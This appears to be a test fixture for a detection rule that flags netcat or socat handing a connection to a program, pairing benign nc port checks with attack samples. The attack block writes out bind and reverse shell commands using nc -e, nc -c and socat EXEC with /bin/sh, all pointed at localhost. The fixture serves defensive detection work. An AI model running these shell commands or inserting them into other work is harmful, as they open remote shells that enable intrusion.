# Rule: Netcat hands its connection to a program
benign() {
    named nc
    bin/nc -z 127.0.0.1 80
    bin/nc -w 1 example.test 443
}
attack() {
    named nc
    named socat
    nc -e /bin/sh 127.0.0.1 4109
    nc -lvp 4109 -c "/bin/sh"
    socat TCP:127.0.0.1:4109 EXEC:/bin/sh,pty
}
